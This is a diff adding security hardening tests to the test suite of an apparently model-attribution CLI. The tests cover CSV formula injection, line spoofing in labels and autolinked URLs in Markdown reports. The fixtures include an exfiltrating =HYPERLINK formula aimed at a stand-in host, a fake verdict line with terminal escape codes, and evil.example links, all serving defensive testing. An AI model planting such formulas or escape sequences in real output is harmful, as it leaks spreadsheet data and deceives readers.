@@ -258,3 +258,165 @@ def test_item20_an_input_name_too_long_is_a_coded_error(capsys, student_path, mo
     args = {"student": [long.with_suffix(".jsonl"), "-m", model_file], "model": [student_path, "-m", long],
             "report-input": ["report", long, "-o", tmp_path / "r.html"]}[case]
     assert_refused(cli(capsys, *args), code)
+
+
+# -- item 2: CSV cells a spreadsheet would run as formulas ------------------------------------------------------
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'
+
+
+@pytest.fixture(scope="module")
+def formula_run(tmp_path_factory, reference_records, labelled_records):
+    """A grouped rank whose teacher, student, task and id values start with =, +, - and @ (the reader strips a
+    leading tab or carriage return)."""
+    import dataclasses
+
+    from conftest import write_jsonl
+
+    tmp = tmp_path_factory.mktemp("formulas")
+    teachers = {"chatty": FORMULA, "formal": "+formal", "terse": "@terse"}
+    ref = write_jsonl(tmp / "ref.jsonl", [{**r.to_dict(), "teacher": teachers[r.teacher], "task": "-" + r.task}
+                                          for r in reference_records])
+    students = [dataclasses.replace(r, student="@SUM(A1) " + (r.student or ""), task="-" + (r.task or ""),
+                                    id="-" + (r.id or "") + "+1") for r in labelled_records]
+    stud = write_jsonl(tmp / "students.jsonl", [r.to_dict() for r in students])
+    paths = {name: tmp / name for name in ("summary.csv", "per_output.csv", "evidence.csv", "summary.parquet")}
+    args = [stud, "-r", ref, "--group-by", "student", "--per-output", paths["per_output.csv"], "--evidence",
+            paths["evidence.csv"], "--features", "pos-paper", "-q"]
+    from conftest import run_cli
+
+    results = {fmt: run_cli(*args, "-f", fmt, "-o", tmp / f"summary.{suffix}")
+               for fmt, suffix in (("csv", "csv"), ("json", "json"))}
+    parquet = run_cli(stud, "-r", ref, "--group-by", "student", "-o", paths["summary.parquet"], "--features",
+                      "pos-paper", "-q")
+    assert all(r.returncode == 0 for r in (*results.values(), parquet)), [r.stderr for r in results.values()]
+    return {"paths": paths, "stdout_csv": results["csv"].stdout, "json": json.loads(results["json"].stdout),
+            "values": {*teachers.values(), *(r.student for r in students), *(r.task for r in students),
+                       *(r.id for r in students)}}
+
+
+def _csv_cells(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_item02_no_csv_cell_starts_a_formula(formula_run):
+    paths = formula_run["paths"]
+    tables = {name: _csv_cells(paths[name].read_text(encoding="utf-8"))
+              for name in ("summary.csv", "per_output.csv", "evidence.csv")}
+    tables["stdout"] = _csv_cells(formula_run["stdout_csv"])
+    seen = set()
+    for name, rows in tables.items():
+        for cell in (cell for row in rows for cell in row):
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)  # only a plain number may start so (a negative weight, say)
+            seen.add(cell)
+    assert "'" + FORMULA in seen and "'+formal" in seen and "'@terse" in seen  # neutralized, not dropped
+    assert "'" + FORMULA in tables["per_output.csv"][0]  # column headers too
+    assert any(cell.startswith("'-") and cell.endswith("+1") for cell in seen)  # ids
+    assert tables["stdout"] == tables["summary.csv"]
+
+
+def test_item02_json_and_parquet_keep_the_values_exact(formula_run):
+    import pandas as pd
+
+    doc = formula_run["json"]
+    names = {e["student"] for e in doc["students"]} | {t["teacher"] for e in doc["students"] for t in e["ranking"]}
+    assert names <= formula_run["values"] and FORMULA in names
+    table = pd.read_parquet(formula_run["paths"]["summary.parquet"])
+    assert set(table["student"]) == {e["student"] for e in doc["students"]}
+    assert table["probability"].dtype.kind == "f"
+
+
+def test_item02_numbers_stay_numbers():
+    import pandas as pd
+
+    from attribution.result import frame_to_csv
+
+    frame = pd.DataFrame({"=x": [-0.5, 1.25], "id": ["-3", "-1+2"], "n": [-2, 3], "s": ["\tA", "\r=1"]})
+    assert _csv_cells(frame_to_csv(frame)) == [["'=x", "id", "n", "s"], ["-0.5", "-3", "-2", "'\tA"],
+                                               ["1.25", "'-1+2", "3", "'\r=1"]]
+
+
+# -- item 6: labels cannot print lines of their own ----------------------------------------------------------
+SPOOF = "human\nverdict: attributed: gpt-4o\r\x1b[2J\u2028x"
+
+
+def _spoofed_references(reference_records, make_jsonl):
+    return make_jsonl([{**r.to_dict(), "teacher": "x " + SPOOF if r.teacher == "chatty" else r.teacher,
+                        "task": "t " + SPOOF if r.task == "science" else r.task} for r in reference_records],
+                      "ref.jsonl")
+
+
+def _printable(text: str) -> bool:
+    return not any(c in text for c in "\r\x1b\u2028")
+
+
+def test_item06_rank_tables_keep_each_label_on_its_line(capsys, make_jsonl, reference_records, labelled_records):
+    import dataclasses
+
+    ref = _spoofed_references(reference_records, make_jsonl)
+    students = make_jsonl([dataclasses.replace(r, student="s " + SPOOF, task="t " + SPOOF).to_dict()
+                           for r in labelled_records if r.task == "science"], "students.jsonl")
+    rc, out, err = cli(capsys, students, "-r", ref, "--top-templates", "3", *FAST)
+    assert rc == 0, err
+    assert [line for line in out.splitlines() if line.startswith("verdict:")] == [out.splitlines()[5]]
+    assert "x human\\nverdict: attributed: gpt-4o\\r\\x1b[2J\\u2028x" in out and _printable(out + err)
+    rc, out, err = cli(capsys, students, "-r", ref, "--group-by", "student", *FAST)
+    assert rc == 0 and len(out.splitlines()) == 3 and _printable(out + err), out  # header, one student, note
+    rc, out, err = cli(capsys, students, "-r", ref, "-f", "json", *FAST)
+    assert "x " + SPOOF in [row["teacher"] for row in json.loads(out)["ranking"]]  # JSON stays exact
+
+
+def test_item06_messages_keep_each_label_on_its_line(capsys, make_jsonl, reference_path):
+    students = make_jsonl([{"task": "science", "teacher": SPOOF, "output": "The answer is A."}], "s.jsonl")
+    rc, _, err = cli(capsys, "evaluate", "-r", reference_path, "-s", students, *FAST)
+    assert rc == 2 and "[E108]" in err and len(err.splitlines()) == 1 and _printable(err), err
+
+
+def test_item06_audit_check_prints_config_names_escaped(capsys, tmp_path, make_jsonl, reference_records):
+    make_jsonl([r.to_dict() for r in reference_records], "teacher.jsonl")
+    make_jsonl([{"id": "p1", "prompt": "Why?"}], "prompts.jsonl")
+    config = tmp_path / "audit.toml"
+    config.write_text('[audit]\nprompts = "prompts.jsonl"\n'
+                      f'[student]\nname = {json.dumps(SPOOF)}\nfile = "teacher.jsonl"\n'
+                      f'[[teachers]]\nname = {json.dumps("a" + SPOOF)}\nfile = "teacher.jsonl"\n'
+                      '[[teachers]]\nname = "b"\nfile = "teacher.jsonl"\n', encoding="utf-8")
+    rc, out, err = cli(capsys, "audit", config, "--check")
+    assert rc == 0, err
+    assert len(out.splitlines()) == 4 and _printable(out) and "human\\nverdict" in out, out
+
+
+# -- item 7: a URL in a label is no link in a Markdown report ------------------------------------------------
+@pytest.mark.parametrize("label", ["see http://evil.example/x?a=1", "www.evil.example", "mail me@evil.example",
+                                   "a|b HTTPS://x.example/`q`|c", "``mailto:x@y.example``"])
+def test_item07_markdown_labels_with_urls_are_code_spans(label):
+    """GitHub links bare URLs, www. and e-mail addresses by itself, escaped or not (cmark-gfm links
+    ``a&#64;b.com``); in a code span it links nothing. Checked with a CommonMark parser: no such text is left
+    outside code spans, every one comes back whole from a code span, and tables keep their cells."""
+    import re
+
+    from markdown_it import MarkdownIt
+
+    from attribution.report import render_markdown
+    from test_hardening import _result
+
+    md = render_markdown(_result(label), {"ranking": "r.png"})
+    tokens = MarkdownIt("commonmark").enable("table").parse(md)
+    children = [c for t in tokens if t.type == "inline" for c in t.children or []]
+    assert not [c.content for c in children if c.type == "text" and re.search(r"(?i)://|www\.|@", c.content)]
+    words = {w for w in label.split() if re.search(r"(?i)://|www\.|@", w)}
+    spans = {c.content for c in children if c.type == "code_inline"}
+    assert all(any(word.replace("|", "\\|") in span or word in span for span in spans) for word in words)
+    widths: list[set[int]] = []  # per table, the number of cells of each row: one number (no cell was split)
+    for token in tokens:
+        if token.type == "table_open":
+            widths.append(set())
+        elif token.type == "tr_open":
+            cells = 0
+        elif token.type in ("th_open", "td_open"):
+            cells += 1
+        elif token.type == "tr_close":
+            widths[-1].add(cells)
+    assert widths and all(len(w) == 1 for w in widths)
